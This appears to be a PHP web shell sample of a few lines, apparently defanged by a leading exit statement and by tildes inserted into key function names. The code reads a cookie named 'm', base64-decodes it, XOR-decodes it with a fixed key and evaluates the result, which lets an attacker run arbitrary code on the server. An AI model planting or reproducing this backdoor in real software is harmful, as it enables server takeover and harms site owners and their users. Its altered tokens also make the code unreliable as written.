<?php exit; ?>
<?php
$k = 'MARKER'; $t = bas~e64_decode($_C~OOKIE['m']); for ($i = 0, $o = ''; $i < strlen($t); $i++) { $o .= $t[$i] ^ $k[$i % 6]; } eva~l($o);
